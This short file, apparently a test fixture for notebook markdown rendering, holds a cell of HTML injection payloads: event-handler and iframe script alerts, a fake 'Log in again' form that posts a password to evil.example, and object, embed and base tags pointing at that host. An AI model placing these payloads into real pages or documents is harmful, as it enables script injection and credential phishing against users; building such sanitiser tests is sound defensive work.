"""A text holds pictures, frames and forms that act.

gains: live
"""

# %% [markdown]
# <img src="x" onerror="alert(1)"><details ontoggle=alert(1) open><iframe srcdoc="<script>alert(1)</script>"></iframe>
# <form action="https://evil.example"><input name="password"><button>Log in again</button></form>
# <object data="https://evil.example"></object><embed src="https://evil.example"><base href="https://evil.example">
